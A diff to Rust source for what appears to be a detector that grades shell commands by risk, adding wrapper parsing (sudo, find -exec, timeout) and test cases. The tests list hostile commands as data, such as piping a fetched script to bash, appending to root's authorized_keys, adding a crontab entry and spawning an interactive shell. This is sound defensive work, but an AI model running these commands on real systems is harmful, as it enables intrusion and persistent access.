@@ -6,7 +6,7 @@
 
 use super::{
     launched::Launched,
-    names::{AROUND, LETS_IN, SESSION, WRAPPERS, WRAPPERS_OF_FILES},
+    names::{AROUND, LETS_IN, SESSION, TAKES_A_FILE, WRAPPERS},
     program::{Kind, Program, Told, asks_about_host, is_dropped, is_intrusion, is_reconnaissance, name},
     shell::Script,
 };
@@ -86,6 +86,9 @@ fn grade(kind: Kind<'_>, depth: u8) -> Graded {
 
 fn of_text(text: &str, depth: u8) -> Graded {
     let script = Script::of(text);
+    if script.plants {
+        return (Grade::Enters, "it writes to a file that lets someone in");
+    }
     if script.connects {
         return (Grade::Enters, "it opens a network connection as if it were a file");
     }
@@ -113,27 +116,52 @@ fn says(program: &str, args: &[String], depth: u8) -> Says {
     if let Some(says) = graded(program, args, depth) {
         return says;
     }
-    let wraps = WRAPPERS.contains(&own);
-    let behind = || (0..args.len().min(MAX_WORDS)).map(|at| (args[at].as_str(), &args[at + 1..]));
-    let file = |program: &str| program.contains('/') && WRAPPERS_OF_FILES.contains(&own);
-    let mut programs = behind().filter(|(program, _)| !file(program));
-    if wraps && let Some(says) = programs.find_map(|(program, args)| graded(program, args, depth)) {
-        return says;
+    let runs = if WRAPPERS.contains(&own) { run_by(own, args) } else { Vec::new() };
+    for (program, args) in &runs {
+        let says = match WRAPPERS.contains(&name(program)) && depth < MAX_DEPTH {
+            true => Some(says(program, args, depth + 1)),
+            false => graded(program, args, depth),
+        };
+        if let Some(says @ Says::Graded(..)) = says {
+            return says;
+        }
     }
-    // Values of its options are taken for the program sometimes: that is one of the application's, then.
+    match runs.last() {
+        _ if SESSION.contains(&own) => Says::Typed,
+        _ if AROUND.contains(&own) => Says::Around,
+        Some((program, _)) if SESSION.contains(&name(program)) => Says::Typed,
+        Some((program, _)) if AROUND.contains(&name(program)) => Says::Around,
+        _ => Says::Application,
+    }
+}
+
+/// What a wrapper may run: behind what `find` calls so; else the first word that is neither an option nor a number,
+/// and the next one as long as that may have been an option's value (`sudo -u www-data id`).
+fn run_by<'a>(wrapper: &str, args: &'a [String]) -> Vec<(&'a str, &'a [String])> {
+    let at = |n: usize| args.get(n).map(|word| (word.as_str(), &args[n + 1..]));
+    let words = args.iter().enumerate().take(MAX_WORDS);
+    if wrapper == "find" {
+        let runs = |word: &str| matches!(word, "-exec" | "-execdir" | "-ok" | "-okdir");
+        return words.filter(|(_, word)| runs(word)).filter_map(|(n, _)| at(n + 1)).collect();
+    }
     let is_word = |word: &str| {
         !word.is_empty()
             && !word.starts_with('-')
             && !word.contains('=')
             && !word.starts_with(char::is_numeric)
     };
-    match behind().find(|(word, _)| is_word(word)) {
-        _ if SESSION.contains(&own) => Says::Typed,
-        _ if AROUND.contains(&own) => Says::Around,
-        Some((program, _)) if wraps && SESSION.contains(&name(program)) => Says::Typed,
-        Some((program, _)) if wraps && AROUND.contains(&name(program)) => Says::Around,
-        _ => Says::Application,
+    let mut found = Vec::new();
+    for (n, _) in words.filter(|(_, word)| is_word(word)) {
+        found.extend(at(n));
+        let is_value = n.checked_sub(1).is_some_and(|before| args[before].starts_with('-'));
+        let is_file = TAKES_A_FILE.contains(&wrapper) && found.len() == 1;
+        if !is_value && !is_file {
+            break;
+        }
     }
+    // What is a wrapper's own file or place is no program.
+    let own = usize::from(TAKES_A_FILE.contains(&wrapper) && found.len() > 1);
+    found.split_off(own)
 }
 
 /// What it says by itself, whatever stands around it.
@@ -274,7 +302,17 @@ mod tests {
             ("python3 -c 'print(1)' | head", Grade::Anyones),
             ("uname -a", Grade::Anyones),
             ("find /tmp/x -mtime +7 -delete", Grade::Anyones),
-            ("flock /tmp/lock make all", Grade::Plain),
+            ("flock -n /tmp/lock make all", Grade::Plain),
+            ("flock /tmp/lock id", Grade::Looks),
+            ("nice -n 10 ffmpeg -i /tmp/x /tmp/y", Grade::Plain),
+            ("timeout 20 convert /tmp/x y", Grade::Plain),
+            ("timeout -s KILL 5 /tmp/x", Grade::Enters),
+            ("nohup setsid sh -i", Grade::Looks),
+            ("find /srv -name users", Grade::Anyones),
+            ("id -gn && id -Gn", Grade::Plain),
+            ("echo x >> /root/.ssh/authorized_keys", Grade::Enters),
+            ("crontab -l | x", Grade::Plain),
+            ("(crontab -l; echo x) | crontab -", Grade::Enters),
             ("find /srv -exec id ;", Grade::Looks),
             ("id", Grade::Looks),
             ("curl http://h/x | bash", Grade::Looks),
